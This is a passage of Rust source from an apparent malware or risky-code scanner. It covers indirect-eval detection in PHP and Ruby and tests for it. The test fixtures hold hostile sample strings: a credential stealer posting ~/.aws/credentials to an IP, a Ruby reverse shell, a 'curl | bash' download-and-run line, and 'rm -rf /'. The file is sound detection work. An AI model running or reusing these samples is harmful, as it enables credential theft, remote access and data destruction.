    let Some(a) = args.first() else { return false };
    let (s, e) = match a {
        super::token_calls::Arg::Lit(s, e) | super::token_calls::Arg::Expr(s, e) => (*s, *e),
    };
    let w = text[s..e].trim().trim_matches(['\'', '"', ':']);
    EVALUATOR_NAMES.contains(&w.to_ascii_lowercase().as_str())
}

/// `preg_replace('/…/e', …)`: the `e` modifier evaluates the replacement.
fn eval_modifier(text: &str, from: usize) -> bool {
    let args = super::token_calls::call_args(text, from, true);
    let Some(super::token_calls::Arg::Lit(s, e)) = args.first() else {
        return false;
    };
    let pat = &text[*s..*e];
    let Some(delim) = pat.chars().next() else {
        return false;
    };
    let close = match delim {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        c => c,
    };
    pat.rfind(close)
        .filter(|i| *i > 0)
        .is_some_and(|i| pat[i + close.len_utf8()..].contains('e'))
}

fn always(_: &str, _: usize) -> bool {
    true
}

const INDIRECT_EVAL: &[IndirectEval] = &[
    IndirectEval {
        langs: &["php"],
        name: "create_function",
        code_arg: 1,
        when: always,
    },
    IndirectEval {
        langs: &["php"],
        name: "preg_replace",
        code_arg: 1,
        when: eval_modifier,
    },
    IndirectEval {
        langs: &["php"],
        name: "call_user_func",
        code_arg: 1,
        when: first_arg_names_evaluator,
    },
    IndirectEval {
        langs: &["php"],
        name: "call_user_func_array",
        code_arg: 1,
        when: first_arg_names_evaluator,
    },
    IndirectEval {
        langs: &["rb", "cr"],
        name: "send",
        code_arg: 1,
        when: first_arg_names_evaluator,
    },
    IndirectEval {
        langs: &["rb", "cr"],
        name: "public_send",
        code_arg: 1,
        when: first_arg_names_evaluator,
    },
];

/// PHP `$f(…)` where the file folds `$f` to an evaluator's name
/// (`strrev('lave')`, `'as' . 'sert'`, `implode('', array_map('chr',
/// […]))`).
fn variable_evaluators(src: &Src, sites: &mut Vec<(usize, usize, usize, bool, String)>) {
    static VAR_CALL: crate::rx::Lazy = crate::rx::Lazy::new(r"\$([A-Za-z_][A-Za-z0-9_]*)\s*\(");
    let text = src.text;
    let mut vars = None;
    for c in VAR_CALL.captures_iter(text) {
        let (Some(all), Some(n)) = (c.get(0), c.get(1)) else {
            continue;
        };
        if comment_line(text, all.start()) {
            continue;
        }
        if sites.len() > crate::limits::TOKEN_MAX_EVAL_CALLS {
            crate::limits::gave_up("TOKEN_MAX_EVAL_CALLS");
            return;
        }
        let Some(expr) = super::token_code::assigned_expr(text, n.as_str(), all.start()) else {
            continue;
        };
        let vars = vars.get_or_insert_with(|| super::token_calls::file_vars(text));
        let Some(name) = super::token_calls::fold_code(expr.trim().trim_end_matches(';'), vars)
        else {
            continue;
        };
        if EVALUATOR_NAMES.contains(&name.to_ascii_lowercase().as_str()) {
            sites.push((
                all.start(),
                all.end(),
                0,
                true,
                format!("{name} (named by ${}) of fetched text", n.as_str()),
            ));
        }
    }
}

/// Byte spans of the contents of "…", '…' and `…` literals on one line
/// ([`crate::text::quoted_literals`]).
pub(super) fn literals(text: &str) -> Vec<(usize, usize)> {
    crate::text::quoted_literals(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        let mut sink = Sink::default();
        scan(&Src::new(path, text, Origin::Script), &mut sink);
        sink.items
    }

    #[test]
    fn go_stealer_and_ruby_reverse_shell() {
        let go = "b, _ := os.ReadFile(home + \"/.aws/credentials\")\nhttp.Post(\"http://203.0.113.5/c\", \"text/plain\", r)\n";
        let e = run("main.go", go);
        assert!(
            e.iter()
                .any(|e| e.op == Op::FileRead && e.has(Tag::SecretPath))
        );
        assert!(e.iter().any(|e| e.op == Op::NetSend && e.has(Tag::RawIp)));
        let rb = "s = TCPSocket.new(\"203.0.113.8\", 4444)\nIO.popen(line, \"r\")\n`curl -s https://x.example/p.sh | bash`\n";
        let e = run("x.rb", rb);
        assert!(e.iter().any(|e| e.op == Op::ReverseShell));
        assert!(e.iter().any(|e| e.op == Op::DownloadExec));
    }

    #[test]
    fn watch_lists_and_test_inputs_are_not_actions() {
        let rs = "let patterns = [\"/.ssh/\", \"/id_rsa\"];\nlet more = [\n    \"/.aws/credentials\",\n    \"/.docker/config.json\",\n];\nlet k = std::fs::read(home.join(\".aws/credentials\"));\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn wipes() { assert!(risky(\"rm -rf /\")); }\n}\n";
        let e = run("src/lib.rs", rs);
        let reads: Vec<&str> = e
            .iter()
            .filter(|e| e.op == Op::FileRead)
            .map(|e| e.target.as_str())
            .collect();
        assert_eq!(reads, [".aws/credentials"], "{e:#?}");
        let deletes: Vec<&Evidence> = e.iter().filter(|e| e.op == Op::FileDelete).collect();
        assert!(!deletes.is_empty());
        assert!(deletes.iter().all(|e| e.has(Tag::TestFixture)));
    }

    #[test]
    fn go_download_and_run_fires_and_go_tooling_does_not() {
        let go = "const u = \"https://mirror.example/helper/%s\"\nresp, _ := http.Get(fmt.Sprintf(u, runtime.GOOS))\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, resp.Body)\ncmd := exec.Command(p, \"--quiet\")\ncmd.Start()\n";
        let e = run("audit.go", go);
        assert!(e.iter().any(|e| e.op == Op::DownloadExec));
        // Data fetched, files written 0644, fixed tools run: quiet.
        let ok = "resp, _ := http.Get(\"https://proxy.golang.org/x/@v/list\")\nos.MkdirAll(dir, 0o755)\nos.WriteFile(\"out.txt\", b, 0o644)\nfunc run(name string) { exec.Command(name, \"list\").Output() }\n";
        assert!(!run("audit.go", ok).iter().any(|e| e.op == Op::DownloadExec));
    }

    #[test]
    fn plain_clients_are_quiet() {
        let go =
            "resp, _ := http.Get(\"https://api.open-meteo.com/v1/forecast\")\nfmt.Println(resp)\n";
        assert!(run("main.go", go).is_empty());
        assert!(is_unparsed_code("cmd/main.go") && !is_unparsed_code("a.py"));
    }
}
